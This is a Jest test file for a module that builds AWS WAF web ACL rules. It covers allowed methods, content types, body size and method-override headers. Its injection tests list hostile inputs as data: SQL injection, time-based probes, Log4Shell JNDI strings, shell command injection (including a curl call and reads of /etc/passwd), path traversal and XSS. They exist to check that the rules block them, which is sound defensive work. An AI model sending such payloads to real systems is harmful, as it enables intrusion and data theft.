import { ownRules, type WebAclInput } from '../../../src/layers/network/web-acl-rules';

const INPUT: WebAclInput = {
  methods: ['GET', 'POST'],
  contentTypes: ['application/json', 'image/*'],
  maxBodyBytes: 16_384,
  addressLimit: 2000,
};

function statementOf(name: string, input: WebAclInput = INPUT): Record<string, unknown> {
  return ownRules(input).find((rule) => rule.name === name)?.statement as Record<string, unknown>;
}

/** The regular expressions of a statement, in order. */
function regexesIn(statement: unknown): RegExp[] {
  return [...JSON.stringify(statement).matchAll(/"regexString":("(?:[^"\\]|\\.)*")/g)].map(
    ([, text]) => new RegExp(JSON.parse(text ?? '""') as string),
  );
}

describe('own rules of the web ACL', () => {
  it('stand in a fixed order, cheap ones first', () => {
    expect(ownRules(INPUT).map((rule) => rule.name)).toEqual([
      'network-method-override',
      'network-route-allowlist',
      'network-forged-headers',
      'input-injection',
      'input-body-size',
      'input-content-type',
      'network-address-flood',
    ]);
  });

  it('name headers with the capital N that CloudFormation wants', () => {
    expect(JSON.stringify(ownRules(INPUT))).not.toMatch(/"singleHeader":\{"name"/);
  });

  it.each([
    ['GET', true],
    ['POST', true],
    ['DELETE', false],
    ['OPTIONS', false],
    ['GETX', false],
    ['get', false],
  ])('let method %s through: %s', (method, expected) => {
    const [regex] = regexesIn(statementOf('network-route-allowlist'));

    expect(regex?.test(method)).toBe(expected);
  });

  it.each([
    ['application/json', true],
    ['application/json; charset=utf-8', true],
    ['application/json ;charset=utf-8', true],
    ['image/png', true],
    ['application/jsonx', false],
    ['application/json, text/xml', false],
    ['text/plain', false],
    ['applicationxjson', false],
    ['image/', false],
    ['', false],
  ])('read content type "%s": %s', (type, expected) => {
    const [regex] = regexesIn(statementOf('input-content-type'));

    expect(regex?.test(type)).toBe(expected);
  });

  it('ask for a content type only where there is a body', () => {
    expect(statementOf('input-content-type')).toMatchObject({
      andStatement: {
        statements: [
          { sizeConstraintStatement: { fieldToMatch: { body: {} }, comparisonOperator: 'GT', size: 0 } },
          { notStatement: {} },
        ],
      },
    });
  });

  it('refuse every body when the contract takes none', () => {
    expect(statementOf('input-content-type', { ...INPUT, contentTypes: [] })).toMatchObject({
      sizeConstraintStatement: { comparisonOperator: 'GT', size: 0 },
    });
  });

  it('count what is beyond inspection as too large', () => {
    expect(statementOf('input-body-size')).toMatchObject({
      sizeConstraintStatement: { fieldToMatch: { body: { oversizeHandling: 'MATCH' } }, size: 16_384 },
    });
  });

  it('split long lists of content types into expressions that WAF takes', () => {
    const contentTypes = Array.from({ length: 40 }, (_, index) => `application/vnd.example.type${index}+json`);

    const regexes = regexesIn(statementOf('input-content-type', { ...INPUT, contentTypes }));

    expect(regexes.every((regex) => regex.source.length <= 512 + 64)).toBe(true);
    expect(contentTypes.every((type) => regexes.some((regex) => regex.test(type)))).toBe(true);
  });

  it.each(['x-http-method-override', 'x-http-method', 'x-method-override'])('refuse header %s', (name) => {
    expect(JSON.stringify(statementOf('network-method-override'))).toContain(`{"Name":"${name}"}`);
  });

  describe('on injections', () => {
    const regexes = regexesIn(statementOf('input-injection'));
    const isBlocked = (text: string) => regexes.some((regex) => regex.test(text.toLowerCase()));

    it.each([
      "x' UNION ALL SELECT password FROM users--",
      'x union select null,null',
      "x' or '1'='1",
      "x' OR 1=1",
      '1;drop table orders',
      '1 and pg_sleep(10)',
      "1;waitfor delay '0:0:5'",
      '${jndi:ldap://x/a}',
      '${${lower:j}ndi:ldap://x/a}',
      'a; cat /etc/passwd',
      'a|curl -s x.example',
      'a`id`',
      '$(whoami)',
      ';id',
      '../../etc/passwd',
      '..\\..\\windows',
      '<script>alert(1)</script>',
      'a\0.jpg',
    ])('stop %j', (text) => {
      expect(isBlocked(text)).toBe(true);
    });

    it.each([
      "name=O'Brien",
      "q=rock 'n' roll or jazz",
      'q=select a plan from the list',
      'q=union select committee',
      'q=sleep (8 hours)',
      'q=open; update the status',
      'word=a|cat|b&id=5',
      'q=I <3 boots',
      'q=fish & chips; cat food',
      'price=$(5)&q=$5',
      'from=2026-01-01&to=2026-02-01&id=1',
      'q={{name}}',
      'q=drop table tennis',
      'file=../a',
    ])('let %j pass', (text) => {
      expect(isBlocked(text)).toBe(false);
    });

    it('fit into the length that WAF takes', () => {
      expect(Math.max(...regexes.map(({ source }) => source.length))).toBeLessThanOrEqual(512);
    });
  });
});
